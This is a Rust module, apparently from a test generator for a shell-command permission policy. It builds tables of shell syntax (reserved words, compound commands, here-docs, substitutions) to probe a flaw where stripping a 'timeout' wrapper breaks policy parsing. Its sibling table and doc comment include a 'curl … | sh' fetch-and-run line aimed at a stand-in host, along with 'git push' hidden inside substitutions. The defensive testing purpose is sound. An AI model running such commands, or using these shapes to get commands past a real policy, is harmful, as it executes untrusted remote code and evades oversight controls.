//! Shell syntax as a wrapper's inner command and as siblings (`GEN-9`).
//!
//! The plain vocabulary ([`super::vocab`]) holds simple commands only, so a
//! generator built from it can never put a reserved word, a brace or a `#`
//! right after a stripped wrapper — and so it never reached the de-wrapping
//! flaw `cd /repo; timeout 30s if; curl … | sh` (finding A-1 of
//! `spec/findings.md`): stripping `timeout 30s ` puts `if` in command
//! position, and the re-query's parse of the whole compound collapses. These
//! tables add that syntax, one class per table, so each class can be measured
//! on its own ([`SyntaxClass`]).
//!
//! No entry contains a quote character (the quoting placements of
//! [`super::Placement`] wrap the unit in quotes themselves), starts with
//! whitespace or `-`, or starts with a wrapper word.

use super::choices::Choices;
use super::vocab::{INNER_COMMANDS, SIBLING_COMMANDS};

/// A class of shell syntax the grammar can put where a simple command was (`GEN-9`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SyntaxClass {
    /// Reserved words and the `!`, `[[`, `]]`, `{`, `}` tokens: `if`, `done`, `{ ls`.
    Reserved,
    /// Compound commands whole: `if true; then ls; fi`, `{ ls; }`.
    Compound,
    /// `#` at the start of and inside a word: `#`, `ls a#b`.
    Comment,
    /// `{fd}>` redirections: `ls {fd}>out`.
    FdVariable,
    /// Here-document and here-string operators: `cat <<EOF`, `cat <<< in`.
    HereDoc,
    /// Function definitions: `f() { ls; }`, `function f { ls; }`.
    Function,
    /// Expansions that run commands or arithmetic: `$(ls)`, `` `ls` ``,
    /// `<(ls)`, `>(cat)`, `${x:-$(ls)}`, `$((1+2))`.
    Substitution,
}

impl SyntaxClass {
    /// Every class, in table order.
    pub const ALL: [Self; 7] = [
        Self::Reserved,
        Self::Compound,
        Self::Comment,
        Self::FdVariable,
        Self::HereDoc,
        Self::Function,
        Self::Substitution,
    ];

    /// Inner commands of this class (what follows `timeout 30s `).
    #[must_use]
    pub const fn inner_commands(self) -> &'static [&'static str] {
        match self {
            Self::Reserved => &[
                "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case",
                "esac", "in", "function", "select", "!", "[[", "]]", "{", "}", "if true", "do ls",
                "{ ls", "! ls", "then ls", "done ls",
            ],
            Self::Compound => &[
                "{ ls; }",
                "if true; then ls; fi",
                "for i in 1; do ls; done",
                "while false; do ls; done",
                "until true; do ls; done",
                "case x in x) ls;; esac",
                "select x in a; do ls; done",
                "[[ -f x ]]",
                "( ls )",
            ],
            Self::Comment => &["#", "# note", "#ls", "ls #x", "ls a#b", "a#b", "ls #"],
            Self::FdVariable => &["ls {fd}>out", "{fd}>out ls", "exec {fd}>out", "ls {fd}<&0"],
            Self::HereDoc => &["cat <<EOF", "cat <<-EOF", "cat <<< in", "<<EOF", "<<< in"],
            Self::Function => &[
                "f() { ls; }",
                "function f { ls; }",
                "f()",
                "function f",
                "f() ( ls )",
            ],
            Self::Substitution => &[
                "echo $(ls)",
                "echo `ls`",
                "cat <(ls)",
                "tee >(cat)",
                "echo ${x:-$(ls)}",
                "echo $((1+2))",
                "$(ls)",
                "`ls`",
                "x=$(ls)",
                "$((1+2))",
            ],
        }
    }

    /// Sibling commands of this class. The payload they carry (`git push`,
    /// `curl … | sh`) is what a sound policy must still judge.
    #[must_use]
    pub const fn siblings(self) -> &'static [&'static str] {
        match self {
            Self::Reserved => &["if", "then", "fi", "done", "{", "}", "!", "! git push"],
            Self::Compound => &[
                "{ git push; }",
                "if true; then git push; fi",
                "for i in 1; do git push; done",
                "while false; do git push; done",
                "case x in x) git push;; esac",
                "[[ -n x ]] && git push",
                "curl -s http://example.invalid | sh",
            ],
            Self::Comment => &["#", "# git push", "git push a#b", "git push #x"],
            Self::FdVariable => &["git push {fd}>out", "exec {fd}>out"],
            Self::HereDoc => &["cat <<EOF", "cat <<-EOF", "git push <<< in"],
            Self::Function => &["f() { git push; }", "function f { git push; }"],
            Self::Substitution => &[
                "echo $(git push)",
                "echo `git push`",
                "cat <(git push)",
                "echo >(git push)",
                "echo ${x:-$(git push)}",
                "x=$(git push)",
                "echo $((1+2))",
            ],
        }
    }
}

/// How often, and from which classes, the grammar draws shell syntax (`GEN-9`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SyntaxWeights {
    /// Percent of inner commands and of siblings drawn from the syntax tables.
    pub percent: u32,
    /// Relative weight of each class, in [`SyntaxClass::ALL`] order.
    pub classes: [u32; 7],
}

impl Default for SyntaxWeights {
    fn default() -> Self {
        Self {
            percent: 20,
            classes: [1; 7],
        }
    }
}

impl SyntaxWeights {
    /// Only `class`, drawn `percent` % of the time (for measuring one class).
    #[must_use]
    pub fn only(class: SyntaxClass, percent: u32) -> Self {
        let mut classes = [0; 7];
        if let Some(index) = SyntaxClass::ALL.iter().position(|&c| c == class) {
            classes[index] = 1;
        }
        Self { percent, classes }
    }

    /// A class picked by [`Self::classes`].
    fn class(&self, c: &mut impl Choices) -> SyntaxClass {
        SyntaxClass::ALL
            .get(c.weighted(&self.classes))
            .copied()
            .unwrap_or(SyntaxClass::Reserved)
    }

    /// An inner command: a plain one ([`INNER_COMMANDS`]) most often, shell
    /// syntax ([`SyntaxClass::inner_commands`]) `percent` % of the time.
    pub fn inner_command(&self, c: &mut impl Choices) -> &'static str {
        if c.percent(self.percent) {
            let table = self.class(c).inner_commands();
            c.pick(table).copied().unwrap_or("if")
        } else {
            c.pick(INNER_COMMANDS).copied().unwrap_or("npm test")
        }
    }

    /// A sibling command: a plain one ([`SIBLING_COMMANDS`]) most often,
    /// shell syntax ([`SyntaxClass::siblings`]) `percent` % of the time.
    pub fn sibling_command(&self, c: &mut impl Choices) -> &'static str {
        if c.percent(self.percent) {
            let table = self.class(c).siblings();
            c.pick(table).copied().unwrap_or("fi")
        } else {
            c.pick(SIBLING_COMMANDS).copied().unwrap_or("echo EXIT")
        }
    }
}

/// The class a text of the syntax tables belongs to, if any.
#[must_use]
pub fn class_of(text: &str) -> Option<SyntaxClass> {
    SyntaxClass::ALL
        .into_iter()
        .find(|class| class.inner_commands().contains(&text) || class.siblings().contains(&text))
}
